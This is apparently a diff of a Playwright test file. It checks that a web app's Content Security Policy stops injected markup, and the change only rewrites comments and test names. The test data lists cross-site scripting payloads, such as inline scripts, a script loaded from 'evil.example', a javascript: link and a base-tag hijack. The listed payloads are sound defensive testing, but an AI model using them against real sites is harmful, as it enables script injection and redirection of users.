@@ -15,17 +15,17 @@ const inject = (text: string) => text + MARKUP;
 
 const test = behindNginx((place) => changedBuild(place, (page) => injectPublished(page, inject)));
 
-/** Runs before a page's scripts: what violates its policy is kept where the test finds it. */
+/** Runs before a page's scripts: collects violations of the page's policy. */
 const KEEP_VIOLATIONS = `window.violations = [];
 document.addEventListener("securitypolicyviolation", (event) =>
   window.violations.push(event.effectiveDirective + " stops " + (event.blockedURI || event.sample)));`;
 
-/** So many buttons of each page are tapped. */
+/** Number of buttons to tap on each page. */
 const TAPS = 2;
 
 /**
- * Pages that have all kinds of blocks between them, those with many first; a page costs a second of a core. All pages
- * are played without a browser (campaigns/injection).
+ * Returns pages that together contain all block types, those with many first, since a page costs a second of CPU time. All
+ * pages are tested without a browser in campaigns/injection.
  */
 function pagesToOpen(): string[] {
   const all = [...site.pages()].map(([key, { published }]) => ({
@@ -36,8 +36,8 @@ function pagesToOpen(): string[] {
 }
 
 /**
- * What came of the payloads on an open page. Where the page is just being left, nobody can ask it; a violation there is
- * still on its console, which fails the test.
+ * Returns the effects of the payloads on an open page. A page that is being left cannot be evaluated; its violations are
+ * still on the console, which fails the test.
  */
 function remainsOn(page: Page): Promise<unknown> {
   const remains = page.evaluate(
@@ -55,20 +55,20 @@ function remainsOn(page: Page): Promise<unknown> {
 
 const nothing = { ran: false, elements: 0, violations: [] };
 
-describe.skipIf(!nginxHere.isThere)("behind nginx (skipped where it is not installed)", () => {
-  test("no page runs what its texts say, asks for it or violates its policy", { timeout: 600_000 }, async ({
+describe.skipIf(!nginxHere.isThere)("behind nginx (skipped if it is not installed)", () => {
+  test("injected texts run on no page, cause no request and no violation", { timeout: 600_000 }, async ({
     open,
   }) => {
     const asked = new Set<string>();
     const page = await open({
       path: "/performanceSystem?sandbox=off",
       before: KEEP_VIOLATIONS,
-      // Answers that are refused are asked for again by pages, and told.
+      // Pages repeat refused calls, and Chromium reports them.
       expectedProblems: [/status of 4\d\d/],
     });
     page.on("request", (request) => asked.add(new URL(request.url()).hostname));
     await page.route("**/prod-api/**", spoilRoute);
-    // A way to another site leads nowhere, and the page stays: a site that is not there came in its place, at some time.
+    // Navigations to other sites have no effect, because a missing site would replace the page at an unknown time.
     await page.route(
       ({ hostname }) => hostname !== "127.0.0.1",
       (route) => (route.request().isNavigationRequest() ? route.fulfill({ status: 204 }) : route.continue()),
@@ -95,7 +95,7 @@ describe.skipIf(!nginxHere.isThere)("behind nginx (skipped where it is not insta
     expect([...asked]).not.toContain(EVIL_HOST);
   });
 
-  /** What a text would do if it were markup, as a script that does it, and what of the policy stops it. */
+  /** The harm that a text could do as markup, as a script, and the directive that stops it. */
   const deeds: [name: string, deed: string, stoppedBy: string][] = [
     ["run a script", 'add("script", { textContent: "window.injectionRan = 1" })', "script-src-elem"],
     ["load a script", 'add("script", { src: "https://evil.example/a.js" })', "script-src-elem"],
@@ -105,7 +105,7 @@ describe.skipIf(!nginxHere.isThere)("behind nginx (skipped where it is not insta
       'add("a", { href: "javascript:window.injectionRan=1" }).click()',
       "script-src-elem",
     ],
-    // Not at once: what a test evaluates itself may evaluate more.
+    // Not synchronously, because the test's own evaluation may run text as code.
     ["run a text", 'requestAnimationFrame(() => new Function("window.injectionRan = 1")())', "script-src"],
     ["style the page", 'add("style", { textContent: "body { color: red }" })', "style-src-elem"],
     ["style an element", 'put("<p style=color:red>")', "style-src-attr"],
@@ -124,7 +124,7 @@ describe.skipIf(!nginxHere.isThere)("behind nginx (skipped where it is not insta
     ["move all addresses", 'add("base", { href: "https://evil.example/" })', "base-uri"],
   ];
 
-  test("the policy stops what a text would do, were it markup", async ({ open }) => {
+  test("the policy stops all harm that a text could do as markup", async ({ open }) => {
     const page = await open({
       path: "/performanceSystem?sandbox=off",
       before: KEEP_VIOLATIONS,
@@ -144,7 +144,7 @@ describe.skipIf(!nginxHere.isThere)("behind nginx (skipped where it is not insta
   });
 });
 
-/** Of the sandbox itself: Playwright's own client would have to be told whom to trust. */
+/** Fetches from the sandbox itself, since Playwright's client does not trust the test's certificate. */
 async function spoilRoute(route: Route): Promise<void> {
   const { pathname, search } = new URL(route.request().url());
   const response = await route.fetch({ url: originOfWorker() + pathname + search });
